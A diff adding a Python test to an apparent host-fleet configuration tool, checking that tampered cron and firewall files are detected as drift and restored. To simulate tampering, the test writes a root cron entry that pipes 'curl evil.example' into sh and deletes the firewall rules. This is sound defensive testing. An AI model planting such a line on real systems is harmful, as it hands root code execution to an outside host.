@@ -138,3 +138,20 @@ def test_backoff_grows_and_retry_now_makes_it_due(cluster, app):
     with app.app_context():
         desync = db.session.scalar(db.select(Desync).where(Desync.node_id == n2))
         assert desync.attempts == 2 and "backup" in desync.last_error
+
+
+def test_drift_in_the_files_alone_is_detected_and_repaired(cluster):
+    """Only the files are edited (the agent's own record untouched): the agent reports the drift."""
+    cluster.add("n1")
+    assert cluster.change("firewall", body=RULE)["status"] == "succeeded"
+    assert cluster.change("scheduler", body=CRON)["status"] == "succeeded"
+    good_cron, good_nft = cron_file(cluster, "n1"), firewall_file(cluster, "n1")
+    (cluster.root("n1") / "etc/cron.d/hostfleet").write_text("* * * * * root curl evil.example | sh\n")
+    (cluster.root("n1") / "etc/hostfleet/firewall.nft").unlink()
+    cluster.collect()
+    assert cluster.desyncs() == {("n1", "scheduler"), ("n1", "firewall")}
+    cluster.sync()
+    assert cluster.desyncs() == set()
+    assert cron_file(cluster, "n1") == good_cron and firewall_file(cluster, "n1") == good_nft
+    cluster.collect()
+    assert cluster.desyncs() == set(), "no drift once repaired"
